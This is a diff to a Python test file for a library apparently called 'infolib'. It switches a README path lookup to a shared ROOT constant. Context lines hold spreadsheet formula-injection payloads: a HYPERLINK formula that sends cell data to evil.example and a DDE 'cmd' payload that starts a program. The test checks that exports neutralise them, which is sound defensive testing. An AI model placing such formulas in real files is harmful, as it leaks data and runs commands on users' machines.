@@ -23,6 +23,7 @@ from infolib import Workbook
 from infolib.errors import DataError, InfolibError
 from infolib.people import export_workbook, restore_workbook
 from infolib.store import schema
+from tests.paths import ROOT
 
 SECRETS = ("Secretname", "secret-private", "private remark", "Hiddenplace")
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
@@ -170,7 +171,7 @@ def test_an_export_opens_in_a_spreadsheet_without_running_anything(tmp_path):
     assert written[0] == "'" + FORMULAS[0] and written[6] == "''=already quoted by someone"
     about = manifest(export)["spreadsheet_safe"]
     assert about["prefix"] == "'" and set(about["before"]) == {"=", "+", "-", "@", "\t", "\r"}
-    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text()
+    readme = (ROOT / "README.md").read_text()
     assert "spreadsheet" in readme.split("## Your data", 1)[1].split("\n## ", 1)[0]
 
 
